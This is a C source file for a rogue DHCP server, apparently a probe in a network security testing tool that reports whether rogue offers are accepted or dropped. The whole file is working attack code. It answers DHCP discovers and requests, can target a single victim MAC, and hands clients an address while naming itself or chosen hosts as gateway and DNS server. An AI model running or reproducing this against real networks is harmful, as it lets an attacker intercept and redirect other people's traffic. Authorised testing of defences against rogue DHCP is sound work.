/* A DHCP server that should not be there: offers an address, and itself as router and name server.
 * It remembers nothing: every client is offered the same address.
 */
#include "dhcprogue.h"

#include "dhcp.h"

#include <errno.h>
#include <string.h>

struct rogue {
    const struct ether *ether;
    struct endpoint own;
    struct endpoint offer;
    struct endpoint router;
    struct endpoint name_server;
    bool has_victim;
    uint8_t victim[6];
    int64_t discovers;
    int64_t requests; /* any */
    int64_t accepted; /* requests that name us, or our address */
    int64_t sent;
};

static int read_flags(const struct request *request, struct rogue *rogue, struct outcome *outcome)
{
    rogue->own = rogue->ether->address;
    if (rogue->own.family != AF_INET) {
        return outcome_fail(outcome, EADDRNOTAVAIL, "%s has no IPv4 address to serve from", rogue->ether->name);
    }
    rogue->router = rogue->own;
    rogue->name_server = rogue->own;
    rogue->has_victim = request_has(request, "--for-mac");
    if (request_endpoint(request, "--offer", &rogue->offer, outcome) < 0 ||
        request_endpoint(request, "--router", &rogue->router, outcome) < 0 ||
        request_endpoint(request, "--name-server", &rogue->name_server, outcome) < 0 ||
        request_mac(request, "--for-mac", rogue->victim, outcome) < 0) {
        return -1;
    }
    if (rogue->offer.family != AF_INET || rogue->router.family != AF_INET || rogue->name_server.family != AF_INET) {
        return outcome_usage(outcome, "rogue needs --offer ADDRESS, and IPv4 addresses alone");
    }
    return 0;
}

static int reply(struct rogue *rogue, const struct dhcpwire *question, uint8_t type, struct outcome *outcome)
{
    struct dhcpwire message = {
        .reply = true,
        .type = type,
        .transaction = question->transaction,
        .broadcast = true,
        .has_server = true,
        .has_router = true,
        .has_mask = true,
        .mask = {255, 255, 255, 0},
        .name_server_count = 1,
        .lease_seconds = 120,
        .domain = "rogue.invalid",
    };

    memcpy(message.mac, question->mac, 6);
    memcpy(message.yours, &rogue->offer.ip.v4, 4);
    memcpy(message.server, &rogue->own.ip.v4, 4);
    memcpy(message.router, &rogue->router.ip.v4, 4);
    memcpy(message.name_servers[0], &rogue->name_server.ip.v4, 4);
    rogue->sent++;
    return dhcp_send(rogue->ether, &message, rogue->ether->mac, &rogue->own, NULL, NULL, outcome);
}

static int serve(struct rogue *rogue, const struct dhcpwire *question, struct outcome *outcome)
{
    if (rogue->has_victim && memcmp(question->mac, rogue->victim, 6) != 0) {
        return 0;
    }
    if (question->type == DHCPWIRE_DISCOVER) {
        rogue->discovers++;
        return reply(rogue, question, DHCPWIRE_OFFER, outcome);
    }
    if (question->type != DHCPWIRE_REQUEST) {
        return 0;
    }
    rogue->requests++;
    bool names_us = question->has_server && memcmp(question->server, &rogue->own.ip.v4, 4) == 0;
    bool our_offer = question->has_requested && memcmp(question->requested, &rogue->offer.ip.v4, 4) == 0;
    if (!names_us && !our_offer) {
        return 0;
    }
    rogue->accepted++;
    return reply(rogue, question, DHCPWIRE_ACK, outcome);
}

int dhcprogue_run(const struct request *request, const struct ether *ether, struct outcome *outcome)
{
    struct rogue rogue = {.ether = ether};
    struct dhcpwire question;
    struct dissected packet;
    int ready;

    if (read_flags(request, &rogue, outcome) < 0) {
        return -1;
    }
    while ((ready = dhcp_receive(ether, request->deadline, false, &question, &packet)) > 0) {
        if (serve(&rogue, &question, outcome) < 0) {
            return -1;
        }
    }
    if (ready < 0) {
        return outcome_fail(outcome, errno, "receiving frames: %s", strerror(errno));
    }
    jsonline_number(&outcome->evidence, "discovers", rogue.discovers);
    jsonline_number(&outcome->evidence, "requests", rogue.requests);
    jsonline_number(&outcome->evidence, "accepted", rogue.accepted);
    jsonline_number(&outcome->evidence, "sent", rogue.sent);
    outcome_say(outcome, rogue.accepted ? VERDICT_REACHABLE : VERDICT_DROPPED, 0);
    return 0;
}
